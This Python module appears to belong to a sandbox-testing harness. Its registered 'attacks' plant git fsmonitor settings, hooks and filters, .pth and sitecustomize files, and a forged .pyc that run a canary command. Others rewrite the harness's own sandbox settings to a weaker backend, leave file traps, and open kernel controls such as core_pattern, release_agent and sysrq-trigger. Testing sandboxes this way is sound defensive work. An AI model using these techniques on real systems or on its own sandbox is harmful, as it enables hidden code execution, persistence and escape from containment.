"""Leaving something for later: for the user's git, for the user's Python, for the harness, for the next command."""

from __future__ import annotations

import contextlib
import os
import stat

from .registry import Scene, attack


def _each(scene: Scene, *names: str) -> list[str]:
    """A file in the workspace, and the same where the sandbox shows the host's tools."""
    return [f"{folder}/{name}" for folder in (scene["root"], scene["tools"]) for name in names]


def _put(path: str, text: str, mode: int = 0o755) -> None:
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        os.chmod(path, mode)


@attack("later", "have the user's git run a command (fsmonitor)", prepare="git")
def monitor(scene: Scene) -> object:
    for path in _each(scene, "repository/.git/config"):
        _put(path, f"[core]\nrepositoryformatversion = 0\nfsmonitor = {scene['canary']}\n")
    return None


@attack("later", "have the user's git run a hook", prepare="git")
def hook(scene: Scene) -> object:
    for name in ("post-index-change", "pre-commit", "post-checkout", "reference-transaction"):
        for path in _each(scene, f"repository/.git/hooks/{name}"):
            _put(path, f"#!/bin/sh\n{scene['canary']}\n")
    return None


@attack("later", "have the user's git run a filter", prepare="git")
def clean_filter(scene: Scene) -> object:
    for path in _each(scene, "repository/.git/config"):
        _put(path, f'[core]\nrepositoryformatversion = 0\n[filter "evil"]\nclean = {scene["canary"]}\n')
    for path in _each(scene, "repository/.gitattributes"):
        _put(path, "* filter=evil\n")
    for path in _each(scene, "repository/file"):
        _put(path, "changed\n")
    return None


@attack("later", "have the user's git run a command (another repository by .git)", prepare="git")
def redirect(scene: Scene) -> object:
    """The folder .git is replaced by a file that names a repository of one's own."""
    import shutil

    for path in _each(scene, "repository"):
        with contextlib.suppress(OSError):
            shutil.copytree(f"{path}/.git", f"{path}/evil.git")
            _put(f"{path}/evil.git/config", f"[core]\nrepositoryformatversion = 0\nfsmonitor = {scene['canary']}\n")
            shutil.rmtree(f"{path}/.git")
            _put(f"{path}/.git", "gitdir: evil.git\n", 0o644)
    return None


@attack("later", "have the user's Python run code at its start (.pth)", prepare="python")
def path_file(scene: Scene) -> object:
    for path in _each(scene, "evil.pth"):
        _put(path, f"import os; os.system({scene['canary']!r})\n")
    return None


@attack("later", "have the user's Python run code at its start (sitecustomize)", prepare="python")
def customize(scene: Scene) -> object:
    for path in _each(scene, "sitecustomize.py", "usercustomize.py"):
        _put(path, f"import os; os.system({scene['canary']!r})\n")
    return None


@attack("later", "poison compiled code", prepare="python")
def compiled(scene: Scene) -> object:
    """With the time and the size of the source that it claims to come from."""
    import importlib.util
    import marshal

    code = marshal.dumps(compile(f"import os; os.system({scene['canary']!r})", "module.py", "exec"))
    for path in _each(scene, "module.py"):
        with contextlib.suppress(OSError):
            made = os.stat(path)
            stamp = int(made.st_mtime).to_bytes(4, "little") + made.st_size.to_bytes(4, "little")
            target = importlib.util.cache_from_source(path)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "wb") as f:
                f.write(importlib.util.MAGIC_NUMBER + bytes(4) + stamp + code)
    return None


@attack("later", "change the settings of the harness")
def settings(scene: Scene) -> object:
    """In the workspace, where the harness keeps its own things, and in the home folder."""
    text = '[tool.referee.sandbox]\nbackend = "bare"\nallow_degraded = true\n'
    for path in _each(scene, "pyproject.toml", ".harness/referee.toml", "referee.toml"):
        _put(path, text, 0o644)
    for folder in ("~", "~/.config", "/etc", "/etc/profile.d"):  # the mark stands for a name that is read
        with (
            contextlib.suppress(OSError),
            open(f"{os.path.expanduser(folder)}/{scene['mark']}-settings", "x", encoding="utf-8") as f,
        ):
            f.write(text)
    return None


@attack("later", "leave traps for whoever reads the workspace")
def traps(scene: Scene) -> object:
    """A link out, a pipe that never ends a read, a socket, a device, a file of a terabyte."""
    import socket

    with contextlib.suppress(OSError):
        os.symlink(f"{scene['outside']}/secret", f"{scene['root']}/result.json")
    with contextlib.suppress(OSError):
        os.mkfifo(f"{scene['root']}/pipe")
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
        s.bind(f"{scene['root']}/listening")
    with contextlib.suppress(OSError):
        os.mknod(f"{scene['root']}/device", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    with contextlib.suppress(OSError), open(f"{scene['root']}/huge", "wb") as f:
        os.truncate(f.fileno(), 1 << 40)
    return None


@attack("later", "leave something for the next command", prepare="next")
def next_command(scene: Scene) -> object:
    """Wherever can be written to; the next command shows what it finds there."""
    for folder in (scene["root"], os.path.expanduser("~"), "/tmp", "/dev/shm", "/run", "/var/tmp"):
        _put(f"{folder}/{scene['mark']}-left", f"left-{scene['mark']}")
    return None


@attack("setup", "a protected path that is a link", prepare="linked")
def linked(scene: Scene) -> object:
    """To a folder of the host: a read-only mount over it would land there, and so would what is written."""
    _put("protected/inner", "pwn")
    _put("protected/planted", "pwn")
    return None


@attack("setup", "a link on the way to a protected path", prepare="linked above")
def linked_above(scene: Scene) -> object:
    _put("above/protected/inner", "pwn")
    return None


@attack("setup", "a protected path that does not exist yet", prepare="absent")
def absent(scene: Scene) -> object:
    """Whoever creates it decides what is in it."""
    _put("protected/inner", "pwn")
    return None


@attack("setup", "a protected path that is no file", prepare="pipe")
def pipe(scene: Scene) -> object:
    """A pipe in its place would hang whoever opens it."""
    with contextlib.suppress(OSError):
        os.close(os.open("protected", os.O_RDWR | os.O_NONBLOCK))
        os.remove("protected")
        _put("protected", "pwn")
    return None


@attack("kernel", "write the kernel's settings", control="root")
def kernel_settings(scene: Scene) -> object:
    """Opened for writing only: that they could be written is bad enough, for the control's machine as well."""
    # None that a namespace has a value of its own for, such as the host's name.
    names = ("kernel/core_pattern", "kernel/modprobe", "kernel/hotplug", "kernel/panic", "kernel/randomize_va_space",
             "vm/overcommit_memory", "vm/drop_caches", "fs/suid_dumpable", "fs/binfmt_misc/register")  # fmt: skip
    return _open_for_writing(f"/proc/sys/{name}" for name in names)


@attack("kernel", "reach the kernel's emergency keys", control="root", needed="a writable /proc/sysrq-trigger")
def emergency(scene: Scene) -> object:
    return _open_for_writing(("/proc/sysrq-trigger",))


@attack("kernel", "have the kernel start a program (uevent_helper)", control="root", needed="a writable /sys")
def helper(scene: Scene) -> object:
    return _open_for_writing(("/sys/kernel/uevent_helper", "/sys/kernel/uevent_seqnum", "/sys/kernel/mm/ksm/run"))


@attack("kernel", "have the kernel start a program (release_agent)", control="root", needed="a writable cgroup tree")
def release_agent(scene: Scene) -> object:
    """Wherever cgroups are mounted, or by mounting them."""
    from .system import mount

    with contextlib.suppress(OSError):
        os.mkdir("groups")
        mount("cgroup", "groups", "cgroup", 0, f"none,name={scene['mark']}")  # a hierarchy that controls nothing
    folders = ["/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/unified", "groups"]
    names = ("release_agent", "cgroup.procs", "cgroup.subtree_control", "notify_on_release")
    return _open_for_writing(f"{folder}/{name}" for folder in folders for name in names)


@attack(
    "kernel", "protect itself from the kernel's memory killer", control="root", needed="root's right to decide about it"
)
def immortal(scene: Scene) -> object:
    """When memory runs out, the sandbox is to go first."""
    with open("/proc/self/oom_score_adj", "w", encoding="utf-8") as f:
        f.write("-500")
    return None


@attack("kernel", "read the kernel's memory and its log", control="root")
def kernel_memory(scene: Scene) -> object:
    opened: list[int] = []
    for path in (
        "/proc/kcore",
        "/proc/kmsg",
        "/proc/kpagecount",
        "/sys/kernel/debug/sleep_time",
        "/sys/kernel/tracing/trace",
    ):
        with contextlib.suppress(OSError):
            opened.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    return opened


def _open_for_writing(paths: object) -> object:
    opened: list[int] = []
    for path in paths:  # type: ignore[attr-defined]
        with contextlib.suppress(OSError):
            opened.append(os.open(path, os.O_WRONLY))
    return opened
